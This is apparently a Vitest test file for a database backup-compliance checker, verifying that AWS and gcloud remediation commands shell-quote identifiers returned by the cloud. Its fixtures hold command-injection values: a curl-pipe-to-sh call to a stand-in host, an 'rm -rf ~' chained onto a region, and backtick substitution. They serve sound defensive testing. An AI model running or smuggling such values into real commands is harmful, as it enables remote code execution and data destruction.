import { describe, expect, it } from 'vitest';
import { pitrDeletionProtectionCheck } from '../../../functions/checks/pitr/deletion-protection.ts';
import { pitrEnabledCheck } from '../../../functions/checks/pitr/enabled.ts';
import { pitrRetentionCheck } from '../../../functions/checks/pitr/retention.ts';
import { pitrWindowCheck } from '../../../functions/checks/pitr/window.ts';
import type { PitrFact } from '../../../functions/core/facts.ts';
import { auroraClusterFact, cloudSqlFact, contextWith, rdsInstanceFact } from './fixtures.ts';

/**
 * An identifier, Region or project is quoted from the cloud's answer into a command a DBA pastes
 * into a shell: an answer is never trusted to hold only the characters the cloud documents, so a
 * word with anything a shell reads (`;`, `$(…)`, a space, a quote) is passed as one quoted word,
 * never run.
 */
const HOSTILE = "db-1; curl https://x.invalid/$(id) | sh #'";
const QUOTED = `'db-1; curl https://x.invalid/$(id) | sh #'\\'''`;

function withId(fact: PitrFact, id: string, region?: string): PitrFact {
  return { ...fact, resource: { ...fact.resource, id, ...(region ? { region } : {}) } };
}

describe('remediation commands built from an answer', () => {
  it('quote an RDS instance identifier with shell characters as one word', () => {
    // Prepare
    const fact = withId(rdsInstanceFact({ retentionDays: 7 }), HOSTILE);
    // Act
    const outcome = pitrRetentionCheck.evaluate(fact, contextWith());
    // Assess
    expect(outcome?.status).toBe('FAILED');
    expect(outcome?.remediationText).toContain(
      `--db-instance-identifier ${QUOTED} --backup-retention-period`,
    );
    expect(outcome?.remediationText).not.toContain(`--db-instance-identifier db-1;`);
  });

  it('quote an Aurora cluster identifier and a Region with shell characters', () => {
    // Prepare
    const fact = withId(auroraClusterFact({ deletionProtection: false }), HOSTILE, 'eu-west-1 && rm -rf ~');
    // Act
    const outcome = pitrDeletionProtectionCheck.evaluate(fact, contextWith());
    // Assess
    expect(outcome?.remediationText).toContain(`--db-cluster-identifier ${QUOTED} --deletion-protection`);
    expect(outcome?.remediationText).toContain(`--region 'eu-west-1 && rm -rf ~'`);
  });

  it('quote a Cloud SQL instance and project with shell characters', () => {
    // Prepare
    const base = cloudSqlFact({ automatedBackupsEnabled: false });
    const fact: PitrFact = { ...base, resource: { ...base.resource, id: HOSTILE, account: 'p`id`' } };
    // Act
    const outcome = pitrEnabledCheck.evaluate(fact, contextWith());
    // Assess
    expect(outcome?.remediationText).toContain(`gcloud sql instances patch ${QUOTED} --project='p\`id\`' `);
  });

  it('quote the identifier of the describe command a retention no database can have names', () => {
    // Prepare
    const fact = withId(
      rdsInstanceFact({ retentionDays: undefined, retentionImpossible: 'BackupRetentionPeriod 36' }),
      HOSTILE,
    );
    // Act
    const outcome = pitrWindowCheck.evaluate(fact, contextWith());
    // Assess
    expect(outcome?.status).toBe('NOT_AVAILABLE');
    expect(outcome?.remediationText).toContain(`--db-instance-identifier ${QUOTED}\``);
  });

  it('leave identifiers the clouds document (letters, digits, hyphens) as they are', () => {
    // Act
    const outcome = pitrRetentionCheck.evaluate(rdsInstanceFact({ retentionDays: 7 }), contextWith());
    // Assess
    expect(outcome?.remediationText).toContain(
      'aws rds modify-db-instance --db-instance-identifier certctl-db --backup-retention-period 31 --apply-immediately --region eu-west-1',
    );
  });
});
